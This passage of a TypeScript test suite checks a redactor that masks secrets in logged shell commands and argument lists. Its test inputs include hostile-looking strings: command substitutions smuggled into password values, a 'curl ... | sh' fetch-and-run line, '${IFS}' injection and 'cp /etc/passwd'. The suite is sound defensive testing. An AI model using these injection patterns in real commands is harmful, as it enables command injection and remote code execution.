    for (const tail of ['`id`', '$(id)', '>out', '<(id)']) expect(r.redactText(`echo password=1${tail}`)).toBe(`echo password=${REDACTED}${tail}`);
    expect(r.redactText('DB_PASSWORD=Pa$$w0rd app --password=,Hunter2')).toBe(`DB_PASSWORD=${REDACTED} app --password=${REDACTED}`);
  });

  // Quotes, ${IFS} and brace expansion carried a command past the mask: `echo password="$(touch x)"` ran and was
  // logged as `password="[REDACTED]"`. A quoted value is still masked whole (whether a shell ran what it holds
  // cannot be told from the text), but says that it held what opens a substitution.
  test('a quoted value holding a substitution says so where it is masked; an expansion or a brace expansion ends a bare one', () => {
    const cases: Array<[string, string]> = [
      ['echo password="$(touch x)"', `echo password="${REDACTED_SHELL}"`],
      ['X_PASS="`id`" app', `X_PASS="${REDACTED_SHELL}" app`],
      [`echo "password='$(cmd)'"`, `echo "password='${REDACTED_SHELL}'"`],
      // Its value as matched ends at the quote inside the substitution: still said.
      ['export DB_PASS="$(curl -s h | sh; echo "")"', `export DB_PASS="${REDACTED_SHELL}"")"`],
      [`sh -c "mysql --password '$(cmd)'"`, `sh -c "mysql --password '${REDACTED_SHELL}'"`],
    ];
    for (const [text, masked] of cases) expect(r.redactText(text)).toBe(masked);
    expect(r.redact({ command: 'python3', arguments: ['-c', `os.system('X_PASS="$(id)"')`] })).toEqual({ command: 'python3', arguments: ['-c', `os.system('X_PASS="${REDACTED_SHELL}"')`] });
    expect(r.redactText('env password=1${IFS}touch${IFS}x')).toBe(`env password=${REDACTED}\${IFS}touch\${IFS}x`);
    expect(r.redactText('{env,password=1,touch,x}')).toBe(`{env,password=${REDACTED},touch,x}`);
    expect(r.redactText('password="Pa$$ w0rd" DB_PASSWORD=\'a b\'')).toBe(`password="${REDACTED}" DB_PASSWORD='${REDACTED}'`);
  });

  // Every rule's mask says so when what it removed held shell syntax, not only the key=value ones; a key block's END
  // line counts only right after key lines.
  test('any mask that removed shell syntax says so; a key block holding more than key lines says so', () => {
    for (const [text, masked] of [
      ['openssl enc -pass pass:$(id>m) -in f', `openssl enc -pass ${REDACTED}${REDACTED_SHELL} -in f`],
      ["mysql -p'$(id>m)' db", `mysql -p'${REDACTED_SHELL}' db`],
      ["curl -u 'admin:$(id>m)' https://h", `curl -u 'admin:${REDACTED_SHELL}' https://h`],
      ['git clone https://u:a`id`b@h/r', `git clone https://u:${REDACTED_SHELL}@h/r`],
    ] as const) expect(r.redactText(text)).toBe(masked);
    expect(r.redact({ command: 'env', arguments: ['-u', 'mysql', 'bash', '-c', '-p; id > x; touch y'] })).toEqual({ command: 'env', arguments: ['-u', 'mysql', 'bash', '-c', `-p${REDACTED_SHELL}`] });
    const block = 'echo -----BEGIN RSA PRIVATE KEY-----; id>x; touch y; echo -----END RSA PRIVATE KEY-----';
    expect(r.redactText(block)).toBe('echo [REDACTED PRIVATE KEY: held more than key lines]');
  });

  // A key written a line at a time, or in diff output, is still a key; a `;` or a line break in a masked span can end
  // a command where the shell's quoting is not the redactor's; a value ending in `]` kept its marker's end outside.
  test('a key block is masked whatever surrounds its lines; a mask over ; or a line break, or cut at its ends, still says so', () => {
    const key = 'MIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB';
    const lineByLine = `echo '-----BEGIN RSA PRIVATE KEY-----' > k; echo '${key}' >> k; echo '-----END RSA PRIVATE KEY-----' >> k`;
    const diff = `< -----BEGIN RSA PRIVATE KEY-----\n< ${key}\n< -----END RSA PRIVATE KEY-----`;
    for (const text of [lineByLine, diff]) expect(r.redactText(text)).not.toContain(key);
    expect(r.redactText(`-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n${key}\n${key}\nAB==\n-----END RSA PRIVATE KEY-----`)).toBe('[REDACTED PRIVATE KEY]');
    // Lines a shell runs are no key lines, however plain: a command, a path, a header-shaped one after an escaped line break.
    for (const inner of ['touch x', 'cp /etc/passwd out', '/usr/bin////////id', 'reboot', 'X: -fprintf mk']) {
      const block = `echo -----BEGIN RSA PRIVATE KEY-----\n${key}\n${inner}\n-----END RSA PRIVATE KEY-----`;
      expect([inner, r.redactText(block)]).toEqual([inner, 'echo [REDACTED PRIVATE KEY: held more than key lines]']);
    }
    for (const [text, masked] of [
      [`echo 'password="'; touch x; echo '"'`, `echo 'password="${REDACTED_SHELL}"'`],
      ['openssl enc -pass pass:x;{touch,y} -in f', `openssl enc -pass ${REDACTED_SHELL} -in f`],
      ['password="$(id>x|cat)]"', `password="${REDACTED_SHELL}"`],
    ] as const) expect([text, r.redactText(text)]).toEqual([text, masked]);
  });

  // sshpass -e reads SSHPASS, smbclient SMBPASS, wpa_supplicant set-ups WIFI_PSK: each was logged whole.
  test('SSHPASS, SMBPASS and *_PSK are masked, in text and as environment names', () => {
    expect(r.redactText('SSHPASS=Xy7Qp9Zr4Lm sshpass -e ssh host; export WIFI_PSK=abc123456 SMBPASS=pw BYPASS=1')).toBe(
      `SSHPASS=${REDACTED} sshpass -e ssh host; export WIFI_PSK=${REDACTED} SMBPASS=${REDACTED} BYPASS=1`,
    );
    expect(r.redact({ command: 'sshpass', env: { SSHPASS: 'Xy7Qp9Zr4Lm', WIFI_PSK: 'k', SMBPASS: 'p', BYPASS: '1' } })).toEqual({
      command: 'sshpass',
      env: { SSHPASS: REDACTED, WIFI_PSK: REDACTED, SMBPASS: REDACTED, BYPASS: '1' },
    });
  });

  // Generated passwords hold backquotes, and `$(` or `${` now and then: a lone one opens no substitution, and such a
  // quoted value was logged whole (quoted for a shell, or JSON given to curl, python or node).
  test('a quoted value with a lone backquote, $( or ${ is masked whole', () => {
    const M = REDACTED_SHELL;
    const cases: Array<[string, string]> = [
      ["PGPASSWORD='Xy7`Qp9Zr4Lm' psql -h db", `PGPASSWORD='${M}' psql -h db`],
      ["mysql --password='Xy7`Qp9`Zr4Lm' prod", `mysql --password='${M}' prod`],
      ["export DB_PASS='Tq9${zK2mW8vLx'", `export DB_PASS='${M}'`],
      ["export API_TOKEN='ghp_a8F$(kLm29xQzRt55Vb)'", `export API_TOKEN='${M}'`],
      ['curl -d \'{"password":"x7`Qp9Zr4Lm"}\' https://api', `curl -d '{"password":"${M}"}' https://api`],
      ['login({"token":"ab${cdEF12345gh"})', `login({"token":"${M}"})`],
    ];
    for (const [text, masked] of cases) expect(r.redactText(text)).toBe(masked);
    expect(r.redact({ command: 'curl', arguments: ['-d', '{"password":"x7`Qp9Zr4Lm"}'] })).toEqual({ command: 'curl', arguments: ['-d', `{"password":"${M}"}`] });
  });
});

describe('Redactor.redact', () => {
  test('sensitive key names, nested, in arrays; other values kept', () => {
    const input = {
      command: 'git',
      arguments: ['push', `https://bob:pw123@host/x`, '--token', 'ghs_notlongenough', '--api-key=abc'],
      env: { API_KEY: 'k', apiKey: 'k', apikey: 'k', key: 'k', private_key: 'k', Authorization: 'Basic Zm9v', passwd: 'p', Cookie: 'c', sessionId: 's', client_secret: 's', myCredentials: 'c', none: null, MYSQL_PWD: 'p', REDISCLI_AUTH: 'p', GITHUB_PAT: 'p', DB_PASS: 'p', PGPASS: 'p', SMTP_PW: 'p', NPM_CREDS: 'p', PWD: '/w', PATH: '/bin', BYPASS: 'x' },
      nested: [{ deeper: { password: 12345, ok: true } }],
      timeoutSeconds: 30,
    };
    expect(r.redact(input)).toEqual({
      command: 'git',
      arguments: ['push', `https://bob:${REDACTED}@host/x`, '--token', REDACTED, `--api-key=${REDACTED}`],
      env: { API_KEY: REDACTED, apiKey: REDACTED, apikey: REDACTED, key: REDACTED, private_key: REDACTED, Authorization: REDACTED, passwd: REDACTED, Cookie: REDACTED, sessionId: REDACTED, client_secret: REDACTED, myCredentials: REDACTED, none: null, MYSQL_PWD: REDACTED, REDISCLI_AUTH: REDACTED, GITHUB_PAT: REDACTED, DB_PASS: REDACTED, PGPASS: REDACTED, SMTP_PW: REDACTED, NPM_CREDS: REDACTED, PWD: '/w', PATH: '/bin', BYPASS: 'x' },
      nested: [{ deeper: { password: REDACTED, ok: true } }],
      timeoutSeconds: 30,
    });
  });

  test('planted secrets anywhere in values are masked', () => {
    const out = JSON.stringify(
      r.redact({ a: [[[{ b: `${SERVER_KEY}` }]]], c: `${AKIA} ${PEM} ${JWT}`, d: { e: `curl -u x -H 'Authorization: Bearer ${GHP}'` } }),
    );
    for (const secret of [SERVER_KEY, AKIA, 'MIIEpAIBAAKCAQEA7x', JWT, GHP]) expect(out).not.toContain(secret);
  });

  test('does not mutate the input; object keys carrying secrets are masked', () => {
    const input = { [SERVER_KEY]: 1, list: [SERVER_KEY] };
    const out = r.redact(input) as Record<string, unknown>;
    expect(input.list[0]).toBe(SERVER_KEY);
    expect(Object.keys(out)).toEqual([REDACTED, 'list']);
  });

  test('deep nesting and cycles are bounded', () => {
    let deep: unknown = 'bottom';
    for (let i = 0; i < 100; i++) deep = { n: deep };
    const out = JSON.stringify(r.redact(deep));
    expect(out).toContain('[MAX DEPTH]');
    expect(out).not.toContain('bottom');
    const cyclic: Record<string, unknown> = { a: 1 };
    cyclic.self = cyclic;
    expect(() => JSON.stringify(r.redact(cyclic))).not.toThrow();
  });

  test('a quoted value whose closing quote a cut string lost is masked to the cut', () => {
    const long = (open: string, close: string) => `{"name":"x","password":${open}${'s'.repeat(5000)}${close}}`;
    for (const [open, close] of [['"', '"'], ["'", "'"], ['\\"', '\\"']]) {
      const out = r.redact(long(open!, close!)) as string;
      expect(out).not.toContain('sss');
      expect(out).toMatch(/…\[truncated \d+ chars\]$/);
    }
    // The flag, user:password and program forms, cut by the budget inside the value.
    for (const lead of ['psql --password "', 'curl -u "admin:', "curl -u 'admin:", 'mysql -p"', 'docker login -p "', 'export DB_PASS="']) {
      // A passphrase with spaces: the cut falls at a space inside the quotes, not before the value.
      const text = `${lead}SECRETSTART and more ${'words '.repeat(40)}" && make`;
      const out = r.redact(text, { left: lead.length + 40 }) as string;
      expect({ lead, out: out.includes('SECRETSTART') }).toEqual({ lead, out: false });
    }
  });

  test('the budget is charged what was read: strings that mask down to little still end the copy', () => {
    const args = Array.from({ length: 1000 }, (_, i) => `--password="${String(i).padStart(4, '0')}${'s'.repeat(3980)}"`);
    const out = r.redact({ command: 'sh', arguments: args }, { left: 48 * 1024 }) as { arguments: string[] };
    // About 48 KiB of them read, then a count of the rest: not a thousand times 4 KiB.
    expect(out.arguments.length).toBeLessThan(20);
    expect(out.arguments.at(-1)).toMatch(/^\[\d+ more items\]$/);
    expect(out.arguments[0]).toBe(`--password="${REDACTED}"`);
  });

  test('huge strings are cut with a marker and stay redacted', () => {
    const huge = `${'x'.repeat(100)} password=hunter2 ${'y '.repeat(200_000)}`;
    const out = r.redact(huge) as string;
    expect(out.length).toBeLessThan(MAX_STRING + 100);
    expect(out).toMatch(/…\[truncated \d+ chars\]$/);
    expect(out).not.toContain('hunter2');
  });

  test('a secret straddling the cut is not left half visible', () => {
    const s = `${' '.repeat(MAX_STRING - 10)}${SERVER_KEY}${' '.repeat(100)}`;
    const out = r.redact(s) as string;
    expect(out).not.toContain(SERVER_KEY.slice(0, 10));
  });

  test('big arrays and objects are capped', () => {
    const out = r.redact(Array.from({ length: 5000 }, (_, i) => i)) as unknown[];
    expect(out).toHaveLength(1001);
    expect(out[1000]).toBe('[4000 more items]');
  });

  test('non-JSON values', () => {
    const when = new Date('2024-01-02T03:04:05.678Z');
    expect(r.redact({ when, big: 10n, fn: () => 1, err: new Error(`failed with ${SERVER_KEY}`) })).toEqual({
      when: '2024-01-02T03:04:05.678Z',
      big: '10',
      fn: undefined,
      err: { name: 'Error', message: `failed with ${REDACTED}` },
    });
  });

  test('__proto__ keys are copied as data, not prototypes', () => {
    const input = JSON.parse('{"__proto__": {"polluted": true}}');
    const out = r.redact(input) as Record<string, unknown>;
    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('fast enough for every audit line', () => {
    // A work-count check, not a timing assertion: a pathological input must finish.
    const nasty = 'a'.repeat(MAX_STRING - 1);
    const out = r.redact({ s: nasty, t: `${'password'.repeat(400)}` });
    expect(out).toBeDefined();
  });
});

describe('argv arrays', () => {
  test('flags announce the secret in the next element or carry it attached; the program decides what short flags mean', () => {
    const argv = (command: string, args: string[]) => r.redact({ command, arguments: args });
    expect([
      argv('mysql', ['-u', 'root', '-phunter2', '-p', 'hunter3', '-P', '3306']),
      argv('sudo', ['mysql', '-phunter2']),
      argv('mkdir', ['-p', 'build/x']),
      argv('docker', ['run', '-p', '8080:80', '-u', '1000:1000', 'img']),
      argv('docker', ['login', '-p', 'hunter2']),
      argv('docker', ['login', '-phunter2']),
      argv('podman', ['run', '-p8080:80', '-p127.0.0.1:53:53/udp', 'img']),
      argv('docker', ['run', '-p', '8000-8010:8000-8010', '-p9000-9001:9000-9001/udp', 'img']),
      argv('docker', ['login', '-p', '8000-', '-p12-ab']),
      argv('docker', ['login', '-p', '123456', '-p8080:80']),
      argv('helm', ['registry', 'login', 'r.example', '-p', '8080']),
      argv('docker', ['run', '-p', '80:80', 'img', 'login', '-p', '1234']),
      argv('docker', ['login', '-u', 'docker', '-p', '8080', 'r.example']),
      argv('oras', ['pull', '-u', 'me', '-p', '123456', 'r.example/x:1']),
      argv('mysql', ['-h', 'zip', '-u', 'curl', '-phunter2']),
      argv('zip', ['-Phunter2', '-r', 'a.zip', '.']),
      argv('mongodump', ['-u', 'bob', '-phunter2']),
      argv('curl', ['-u', 'bob:pw', '-ualice:pw2', '-H', 'Authorization: Basic Zm9v', '-u', 'sk_test_4eC39HqLyjWDarjtT1zdp7dc:', `-ughp_${'b2'.repeat(18)}:x`, '-su', 'carol:pw3', '-sU', 'proxy:pw4', '-fsSLkvvuadmin:pw5', '--user', '"jane doe:pw6"']),
      argv('rsync', ['-avu', 'backup:/srv/data']),
      argv('aws', ['configure', 'set', 'aws_secret_access_key', 'abc']),
      argv('echo', [AKIA, 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', '3f786850e387550fdab836ed7e6dc881de23001b']),
      argv('psql', ['--password', 'hunter2', '--pass', 'x', '--auth', 'tok']),
      argv('mysql', ['-p', 'secret', '--password=hunter2', '--token', 'abcdef0123456789']),
    ]).toEqual([
      { command: 'mysql', arguments: ['-u', 'root', `-p${REDACTED}`, '-p', REDACTED, '-P', '3306'] },
      { command: 'sudo', arguments: ['mysql', `-p${REDACTED}`] },
      { command: 'mkdir', arguments: ['-p', 'build/x'] },
      { command: 'docker', arguments: ['run', '-p', '8080:80', '-u', '1000:1000', 'img'] },
      { command: 'docker', arguments: ['login', '-p', REDACTED] },
      // Glued, as their option parsers take it; a glued port mapping stays.
      { command: 'docker', arguments: ['login', `-p${REDACTED}`] },
      { command: 'podman', arguments: ['run', '-p8080:80', '-p127.0.0.1:53:53/udp', 'img'] },
      { command: 'docker', arguments: ['run', '-p', '8000-8010:8000-8010', '-p9000-9001:9000-9001/udp', 'img'] },
      { command: 'docker', arguments: ['login', '-p', REDACTED, `-p${REDACTED}`] },
      // After `login` the flag takes a password however much it looks like a port.
      { command: 'docker', arguments: ['login', '-p', REDACTED, `-p${REDACTED}`] },
      { command: 'helm', arguments: ['registry', 'login', 'r.example', '-p', REDACTED] },
      { command: 'docker', arguments: ['run', '-p', '80:80', 'img', 'login', '-p', REDACTED] },
      // A user named like a program does not end the login; a registry client's -p is always its password.
      { command: 'docker', arguments: ['login', '-u', 'docker', '-p', REDACTED, 'r.example'] },
      { command: 'oras', arguments: ['pull', '-u', 'me', '-p', REDACTED, 'r.example/x:1'] },
      // A value named like another listed program adds that program's rules; it does not end mysql's.
      { command: 'mysql', arguments: ['-h', 'zip', '-u', 'curl', `-p${REDACTED}`] },
      { command: 'zip', arguments: [`-P${REDACTED}`, '-r', 'a.zip', '.'] },
      { command: 'mongodump', arguments: ['-u', 'bob', `-p${REDACTED}`] },
      // A user that is a token (Stripe's `-u sk_test_…:`, GitHub's `ghp_…:x-oauth-basic`) is masked with the password.
      { command: 'curl', arguments: ['-u', `bob:${REDACTED}`, `-ualice:${REDACTED}`, '-H', `Authorization: Basic ${REDACTED}`, '-u', `${REDACTED}:${REDACTED}`, `-u${REDACTED}:${REDACTED}`, '-su', `carol:${REDACTED}`, '-sU', `proxy:${REDACTED}`, `-fsSLkvvuadmin:${REDACTED}`, '--user', `"jane doe:${REDACTED}"`] },
      { command: 'rsync', arguments: ['-avu', 'backup:/srv/data'] },
      { command: 'aws', arguments: ['configure', 'set', 'aws_secret_access_key', REDACTED] },
      { command: 'echo', arguments: [REDACTED, REDACTED, '3f786850e387550fdab836ed7e6dc881de23001b'] },
      { command: 'psql', arguments: ['--password', REDACTED, '--pass', REDACTED, '--auth', REDACTED] },
      { command: 'mysql', arguments: ['-p', REDACTED, `--password=${REDACTED}`, '--token', REDACTED] },
    ]);
  });

  test('keytool, ldap, openssl and the end of options: the secret after them is masked', () => {
    const argv = (command: string, args: string[]) => r.redact({ command, arguments: args });
    expect([
      argv('keytool', ['-importkeystore', '-srcstorepass', 'changeit1', '-deststorepass', 'changeit2', '-keypass', 'changeit3']),
      argv('ldapsearch', ['-x', '-D', 'cn=admin', '-w', 'hunter2', '-b', 'dc=example']),
      argv('ldapmodify', ['-x', '-D', 'cn=admin', '-whunter2', '-W', '-f', 'change.ldif']),
      argv('openssl', ['enc', '-aes-256-cbc', '-k', 'hunter2', '-in', 'f']),
      argv('tool', ['--password', '--', 'hunter2']),
      argv('git', ['clone', 'https://ghx0123456789abcdefABCDEF@example.com/r.git', 'https://alice@example.com/r.git']),
    ]).toEqual([
      { command: 'keytool', arguments: ['-importkeystore', '-srcstorepass', REDACTED, '-deststorepass', REDACTED, '-keypass', REDACTED] },
      { command: 'ldapsearch', arguments: ['-x', '-D', 'cn=admin', '-w', REDACTED, '-b', 'dc=example'] },
      // getopt takes the value glued too; -W (prompt for it) stays.
      { command: 'ldapmodify', arguments: ['-x', '-D', 'cn=admin', `-w${REDACTED}`, '-W', '-f', 'change.ldif'] },
      { command: 'openssl', arguments: ['enc', '-aes-256-cbc', '-k', REDACTED, '-in', 'f'] },
      { command: 'tool', arguments: ['--password', '--', REDACTED] },
      { command: 'git', arguments: ['clone', `https://${REDACTED}@example.com/r.git`, 'https://alice@example.com/r.git'] },
    ]);
    // The same in one command line; an ordinary -k (curl's "insecure") stays.
    expect(r.redactText('curl -k https://example.com && openssl enc -k hunter2')).toBe(`curl -k https://example.com && openssl enc -k ${REDACTED}`);
    expect(r.redactText('sh -c "ldapsearch -x -whunter2 -b dc=example"')).toBe(`sh -c "ldapsearch -x -w${REDACTED} -b dc=example"`);
    expect(r.redactText('docker login -phunter2 reg && docker run -p8080:80 img && mongosh -u bob -phunter3')).toBe(
      `docker login -p${REDACTED} reg && docker run -p8080:80 img && mongosh -u bob -p${REDACTED}`,
    );
  });

  test('a flag that names where a secret is, or a measure, announces no secret: the next element stays', () => {
    const argv = (command: string, args: string[]) => r.redact({ command, arguments: args });
    expect([
      argv('grep', ['--password-file', 'x', 'y']),
      argv('docker', ['login', '--password-stdin', 'registry.example.com']),
      argv('curl', ['--cookie-jar', 'cookies.txt', 'https://example.com']),
      argv('llm', ['--max-tokens', '100', '--token-limit', '5', '--no-password', 'db']),
      argv('vault', ['login', '--token-file', '/run/t', '--token', 'hvs-x1']),
    ]).toEqual([
      { command: 'grep', arguments: ['--password-file', 'x', 'y'] },
      { command: 'docker', arguments: ['login', '--password-stdin', 'registry.example.com'] },
      { command: 'curl', arguments: ['--cookie-jar', 'cookies.txt', 'https://example.com'] },
      { command: 'llm', arguments: ['--max-tokens', '100', '--token-limit', '5', '--no-password', 'db'] },
      { command: 'vault', arguments: ['login', '--token-file', '/run/t', '--token', REDACTED] },
    ]);
  });

  test('an option after a secret flag means the flag took no value: the option is not masked, and the secret after it is', () => {
    const argv = (command: string, args: string[]) => r.redact({ command, arguments: args });
    expect([
      argv('ls', ['--token', '--long', 'README.md']),
      argv('psql', ['--password', '--host', 'db']),
      argv('tool', ['--token', '--password', 'hunter2', 'y']),
      argv('mysql', ['-p', '-h', 'db']),
    ]).toEqual([
      { command: 'ls', arguments: ['--token', '--long', 'README.md'] },
      { command: 'psql', arguments: ['--password', '--host', 'db'] },
      { command: 'tool', arguments: ['--token', '--password', REDACTED, 'y'] },
      { command: 'mysql', arguments: ['-p', '-h', 'db'] },
    ]);
  });

  test('a secret that starts with dashes but is no option a program spells (capitals, symbols) is still masked after its flag', () => {
    const argv = (command: string, args: string[]) => r.redact({ command, arguments: args });
    expect([argv('tool', ['--password', '--Tr0ub4dor-X', 'y']), argv('tool', ['--token', '--aB3dE=xY9', 'y'])]).toEqual([
      { command: 'tool', arguments: ['--password', REDACTED, 'y'] },
      { command: 'tool', arguments: ['--token', REDACTED, 'y'] },
    ]);
  });
});

test('numbers under counting names are kept; under secret names they are masked', () => {
  expect(r.redact({ keys: 3, max_tokens: 1000, tokenCount: 7, sessionTimeoutMs: 30, password: 1234, pass: 99, token: true })).toEqual({
    keys: 3,
    max_tokens: 1000,
    tokenCount: 7,
    sessionTimeoutMs: 30,
    password: REDACTED,
    pass: REDACTED,
    token: true,
  });
});

test('a budget cuts strings and ends lists once spent, saying how much went', () => {
  const budget = { left: 80 };
  expect([r.redact({ a: 'x'.repeat(30), b: [1, 2, 3, 4, 5, 6], c: 'late' }, budget), budget.left <= 0]).toEqual([
    { a: 'x'.repeat(30), b: [1, 2, 3, 4, '[2 more items]'], '…': '[1 more keys]' },
    true,
  ]);
});

test('keys known only by digest are masked by value, inside longer text too', () => {
  const key = 'Zk3v9QmP2xR7tL1wB8nY4cH6jD0sF5gA-_eKuTqWoIz';
  const red = new Redactor([], { isKey: digestMatcher([new Bun.CryptoHasher('sha256').update(key).digest('hex')]) });
  expect(red.redactText(`a ${key} b?key=${key}&x /v1/${key}/s "${key}". ${key}x`)).toBe(
    // Glued to another token character it is no key by digest, but still a random run.
    `a ${REDACTED} b?key=${REDACTED}&x /v1/${REDACTED}/s "${REDACTED}". ${REDACTED}`,
  );
});

test('a digest-only key after more than a dozen separators in one run is still masked', () => {
  const key = 'Zk3v9QmP2xR7tL1wB8nY4cH6jD0sF5gA-_eKuTqWoIz';
  const red = new Redactor([], { isKey: digestMatcher([new Bun.CryptoHasher('sha256').update(key).digest('hex')]) });
  const deep = `//host/${'seg/'.repeat(20)}${key}/tail`;
  const encoded = `q=${'word%20'.repeat(20)}${key}%20end`;
  expect([red.redactText(deep), red.redactText(encoded)]).toEqual([`//host/${'seg/'.repeat(20)}${REDACTED}/tail`, `q=${'word%20'.repeat(20)}${REDACTED}%20end`]);
});

test('a digest-only key straddling the cut inside a run of token characters longer than the cut looks back is not left half visible', () => {
  const key = 'Zk3v9QmP2xR7tL1wB8nY4cH6jD0sF5gA-_eKuTqWoIz';
  const red = new Redactor([], { isKey: digestMatcher([new Bun.CryptoHasher('sha256').update(key).digest('hex')]) });
  // The key starts 20 characters before the point 256 characters short of the limit, in a run of 4000+ token characters.
  const before = 'a/'.repeat((MAX_STRING - 256 - 20) / 2);
  const out = red.redact({ x: `${before}${key}/${'b/'.repeat(300)}` }) as { x: string };
  expect(out.x).toContain('…[truncated');
  expect(out.x).not.toContain(key.slice(0, 8));
});

test('setSecrets swaps the masked server secrets', () => {
  const red = new Redactor(['old-secret-value']);
  red.setSecrets(['new-secret-value']);
  expect(red.redactText('old-secret-value new-secret-value')).toBe(`old-secret-value ${REDACTED}`);
});

describe('long random base64 runs', () => {
  const random = (bytes: number) => Buffer.from(crypto.getRandomValues(new Uint8Array(bytes))).toString('base64');
  const urlSafe = (bytes: number) => Buffer.from(crypto.getRandomValues(new Uint8Array(bytes))).toString('base64url');

  test('key body lines without their BEGIN line: PEM (64), OpenSSH (70), PuTTY Private-Lines, a key encoded whole', () => {
    for (let i = 0; i < 200; i++) {
      expect(r.redactText(`echo '${random(48)}' >> k`)).toBe(`echo '${REDACTED}' >> k`);
      expect(r.redactText(`echo ${random(53).slice(0, 70)} >> id`)).toBe(`echo ${REDACTED} >> id`);
    }
    expect(r.redactText(`Private-Lines: 2\n${random(48)}\n${random(48)}`)).toBe(`Private-Lines: 2\n${REDACTED}\n${REDACTED}`);
    expect(r.redactText(`SSH_KEY_B64=$(base64 -w0 id); echo ${random(1200)} | base64 -d > id`)).toBe(`SSH_KEY_B64=$(base64 -w0 id); echo ${REDACTED} | base64 -d > id`);
  });

  test("a JWK's private members (URL-safe base64) and an age identity", () => {
    const jwk = { kty: 'RSA', n: urlSafe(256), e: 'AQAB', d: urlSafe(256), p: urlSafe(128), q: urlSafe(128) };
    const masked = r.redactText(`echo '${JSON.stringify(jwk)}' > key.jwk`);
    for (const secret of [jwk.d, jwk.p, jwk.q]) expect(masked).not.toContain(secret.slice(0, 20));
    expect(masked).toContain('"kty":"RSA"');
    const age = `AGE-SECRET-KEY-1${'QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L'.repeat(2).slice(0, 58)}`;
    expect(r.redactText(`echo ${age} > key.txt`)).toBe(`echo ${REDACTED} > key.txt`);
  });

  test('long words that are not random stay: paths, identifiers, hex digests, UUIDs, a run of one case', () => {
    const plain = [
      'cd src/Components/Dashboard/Widgets/Charts/LineChart2/Renderers/Canvas3D && ls',
      'ls /home/User/Projects/MyApplication2/src/main/java/com/Example/Service/Impl',
      'cat org/springframework/boot/autoconfigure/web/servlet/WebMvcAutoConfiguration2',
      `echo ${'0123456789abcdef'.repeat(8)} ${'0123456789ABCDEF'.repeat(4)}`,
      'docker pull ubuntu@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef',
      `echo ${crypto.randomUUID()}-${crypto.randomUUID()}`,
      `echo ${'abcdefghijklmnopqrstuvwxyz'.repeat(3)} ${'ABCDEFGHIJ0123456789'.repeat(4)}`,
      'test_that_a_very_long_snake_case_test_name_with_digits_1234_still_shows',
    ];
    for (const text of plain) expect(r.redactText(text)).toBe(text);
  });

  test('a long word left as written keeps the masks inside it: `--opt=NAME=secret` of 64 characters and more', () => {
    const token = `ghp_${'aBcDeFgHiJ'.repeat(4)}`;
    expect(r.redactText(`docker build --build-arg=GITHUB_TOKEN=${token} .`)).toBe(`docker build --build-arg=GITHUB_TOKEN=${REDACTED} .`);
    expect(r.redactText('kubectl create secret generic db --from-literal=password=correct-horse-battery-staple-and-more-words')).toBe(
      `kubectl create secret generic db --from-literal=password=${REDACTED}`,
    );
    expect(r.redactText(`echo --set=audit_value=${SERVER_KEY}${'x'.repeat(40)}`)).not.toContain(SERVER_KEY);
    const key = random(1200);
    expect(r.redactText(`kubectl create secret generic k --from-literal=ssh-privatekey=${key}`)).toBe(`kubectl create secret generic k --from-literal=ssh-privatekey=${REDACTED}`);
  });

  test('short private members: an EC or Ed25519 JWK\'s d, a PuTTY Ed25519 key\'s one private line, with no shell-syntax marker', () => {
    const d = urlSafe(32);
    expect(d.length).toBe(43);
    expect(r.redactText(`echo '{"kty":"OKP","crv":"Ed25519","d":"${d}","x":"abc"}' > k.jwk`)).toBe(`echo '{"kty":"OKP","crv":"Ed25519","d":"${REDACTED}","x":"abc"}' > k.jwk`);
    expect(r.redactText(`{\"kty\":\"EC\",\"d\":\"${d}\"}`)).toBe(`{\"kty\":\"EC\",\"d\":\"${REDACTED}\"}`);
    const line = random(36);
    expect(r.redactText(`printf 'Encryption: none\\nPrivate-Lines: 1\\n${line}\\nPrivate-MAC: ab12\\n' > id.ppk`)).toBe(`printf 'Encryption: none\\nPrivate-Lines: 1\\n${REDACTED}\\nPrivate-MAC: ab12\\n' > id.ppk`);
    // Lines are masked for their shape, not for following a `Private-Lines:` (which a comment can say before any
    // command): a short last line stays, as a PEM key's does.
    const last = random(10);
    expect(r.redactText(`Private-Lines: 2\n${line}\n${last}\nPrivate-MAC: ab12`)).toBe(`Private-Lines: 2\n${REDACTED}\n${last}\nPrivate-MAC: ab12`);
    expect(r.redactText('# Private-Lines: 3\nid\nwhoami\nbin/payload')).toBe('# Private-Lines: 3\nid\nwhoami\nbin/payload');
  });

  test("a JWK's members only in text that names a kty; other JSON with such a name stays, and a token under one is still masked", () => {
    expect(r.redactText(`{"q":"kube-prometheus-stack"}`)).toBe(`{"q":"kube-prometheus-stack"}`);
    expect(r.redactText('./"d":"installbackdoor-now"')).toBe('./"d":"installbackdoor-now"');
    const k = urlSafe(16);
    expect(r.redactText(`{'kty': 'oct', 'k': '${k}'}`)).toBe(`{'kty': 'oct', 'k': '${REDACTED}'}`);
    expect(r.redactText(`{"k":"sk-ant-api03-${'aBcDeFgHiJ'.repeat(4)}"}`)).toBe(`{"k":"${REDACTED}"}`);
  });

  test("a URL's random segment (a webhook token) is masked though the path around it is words; escapes before a run keep their letters", () => {
    const token = urlSafe(51);
    expect(r.redactText(`curl -X POST https://discord.com/api/webhooks/123456789012345678/${token}`)).toBe(`curl -X POST https://discord.com/api/webhooks/123456789012345678/${REDACTED}`);
    const run = random(40);
    for (const escape of ['\\cJ', '\\U0000000a', '\\0073', '\\u003b', '\\x0a']) expect(r.redactText(`bash -c $'true${escape}${run}'`)).toBe(`bash -c $'true${escape}${REDACTED}'`);
    const fingerprint = random(32).replace(/=+$/, '');
    expect(r.redactText(`256 SHA256:${fingerprint} me@host (ED25519)`)).toBe(`256 SHA256:${fingerprint} me@host (ED25519)`);
    const goSum = `h1:${random(32)}`;
    expect(r.redactText(`golang.org/x/mod v0.17.0 ${goSum}`)).toBe(`golang.org/x/mod v0.17.0 ${goSum}`);
  });

  test("public values of the shape stay: an SSH public key after its type word, an integrity digest; an escape's letters before a run stay", () => {
    const pub = `AAAAC3NzaC1lZDI1NTE5AAAAI${random(33)}`;
